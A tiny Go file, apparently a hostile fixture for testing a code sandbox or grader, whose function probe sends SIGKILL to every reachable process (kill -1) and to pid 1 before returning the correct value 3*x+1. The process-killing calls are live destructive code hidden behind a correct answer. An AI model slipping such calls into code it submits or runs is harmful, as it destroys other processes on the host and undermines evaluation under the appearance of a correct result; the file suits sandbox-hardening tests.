// Sends SIGKILL to every process it can reach (kill -1) and to pid 1, then answers right.

//go:build ignore

package main

import "syscall"

func probe(x int64) int64 {
	syscall.Kill(-1, syscall.SIGKILL)
	syscall.Kill(1, syscall.SIGKILL)
	syscall.Kill(-1, syscall.SIGTERM)
	return 3*x + 1
}
